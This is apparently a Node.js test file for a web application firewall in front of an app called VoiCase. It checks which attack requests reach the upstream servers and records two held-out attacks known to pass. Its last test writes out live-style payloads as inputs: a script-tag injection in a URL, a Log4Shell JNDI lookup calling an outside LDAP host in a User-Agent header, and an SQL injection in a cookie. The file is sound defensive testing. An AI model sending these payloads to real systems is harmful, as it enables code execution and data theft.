import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startEdge } from './edge.mjs';
import { call } from '../support/client.mjs';
import { attack, attacks, put } from './requests.mjs';

/**
 * Attacks that the edge lets through. They target Node.js and Java, and VoiCase uses neither. The rules against them
 * have paranoia level 2, and the edge uses level 1.
 */
const KNOWN_TO_PASS = ['Node.js, constructor', 'Java, serialised'];

let edge;
before(async () => (edge = await startEdge()));
after(() => edge?.stop());

const seen = () => [...edge.upstreams.reporter.seen, ...edge.upstreams.admin.seen];

/** Returns the attacks that reached the server, with the header or request intact. */
async function passing(surface, list) {
  const names = [];
  for (const one of list) {
    for (const { seen } of Object.values(edge.upstreams)) seen.length = 0;
    await attack(edge, surface, one);
    const [, place, payload] = one;
    const header = place.startsWith('header:') ? place.slice(7) : undefined;
    if (seen().some(({ headers }) => !header || headers[header] === payload)) names.push(one[0]);
  }
  return names;
}

for (const surface of ['reporter', 'admin']) {
  test(`no attack reaches the surface of the ${surface}`, async () => {
    assert.ok(attacks.tuned.length >= 60);
    assert.deepEqual(await passing(surface, attacks.tuned), []);
  });

  test(`of the attacks that the rules were not made with, only the known ones reach the surface of the ${surface}`, async () => {
    assert.deepEqual(await passing(surface, attacks.heldOut), KNOWN_TO_PASS);
  });
}

test('what passes by design passes: free text, and bodies of programs', async () => {
  for (const [name, surface, place, payload] of attacks.byDesign) {
    const path = place.replace('variable:', '');
    const sent =
      surface === 'api'
        ? {
            surface: 'admin',
            path: '/graphql/api',
            body: JSON.stringify(place === 'query' ? { query: payload } : { query: '{ me { id } }', variables: put({}, path, payload) }),
          }
        : { surface, variables: put({}, path, payload) };
    const { status } = await call(edge, sent);
    assert.equal(status, 200, name);
  }
});

test('headers, address and cookies of programs are held against the rules as everybody’s are', async () => {
  const program = (more) => call(edge, { surface: 'admin', path: '/graphql/api', body: '{"query":"{ me { id } }"}', ...more });
  assert.equal((await program({})).status, 200);
  assert.equal((await program({ path: '/graphql/api?q=%3Cscript%3Ealert(1)%3C/script%3E' })).status, 400);
  assert.equal((await program({ headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } })).status, 403);
  assert.equal((await program({ headers: { cookie: "a=' or 1=1 union select 1,2 --" } })).status, 403);
  assert.equal((await program({ headers: { 'content-type': 'text/plain' } })).status, 403);
});
